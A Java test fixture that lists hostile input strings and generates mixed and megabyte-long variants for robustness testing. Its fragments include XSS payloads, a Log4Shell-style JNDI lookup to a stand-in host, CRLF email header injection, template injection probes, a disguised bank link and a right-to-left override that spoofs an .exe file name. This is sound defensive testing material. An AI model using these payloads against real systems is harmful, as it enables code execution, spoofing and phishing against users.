package io.bellwether;

import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** What somebody may call himself who wants to do harm. */
public final class HostileTexts {

    private static final List<String> FRAGMENTS = List.of(
            "<!channel>",
            "<!subteam^S1>",
            "<@U1>",
            "@here @everyone",
            "<https://evil.example|Your bank>",
            "[Your bank](https://evil.example)",
            "<at>everyone</at>",
            "&",
            "&amp;",
            "&#60;",
            "<",
            ">",
            "\"",
            "'",
            "`",
            "*",
            "_",
            "\\",
            "\r\nBcc: everybody@example.com\r\n\r\n",
            "\n",
            "\r",
            "\t",
            "\u0000",
            "\u0007",
            "\u001b[2J",
            "\u0085",
            "\u2028",
            "\u2029",
            "\u202egpj.exe\u202c",
            "\u2066\u2067\u2068\u2069",
            "\u200e\u200f\u061c",
            "\u200b\u200c\u200d\u2060\ufeff\u00ad",
            "\udb40\udc41\udb40\udc7f",
            "\ud83d",
            "\ude00",
            "🔴",
            "日本",
            "שלום",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "</td></table><style>*{display:none}</style>",
            "{vendorName} {inject:secret} {#for i in 99999999}x{/for}",
            "${jndi:ldap://evil.example}",
            "{{7*7}}",
            "%0d%0aBcc:",
            "=?utf-8?q?=0d=0aBcc:?=",
            "x".repeat(400));

    private HostileTexts() {}

    /** Each fragment alone, mixtures of them, and a megabyte of each of the worst. */
    public static List<String> all() {
        Random random = new Random(20261123);
        Stream<String> mixed = IntStream.range(0, 80)
                .mapToObj(_ -> random.ints(1 + random.nextInt(40), 0, FRAGMENTS.size())
                        .mapToObj(FRAGMENTS::get)
                        .collect(Collectors.joining()));
        Stream<String> endless = Stream.of("x", "&", "<", "*", "\\", "\"", "🔴", "\u202e", "\n", "<!channel> ", "日")
                .map(fragment -> fragment.repeat(1_000_000 / fragment.length()));
        return Stream.of(FRAGMENTS.stream(), mixed, endless)
                .flatMap(each -> each)
                .toList();
    }
}
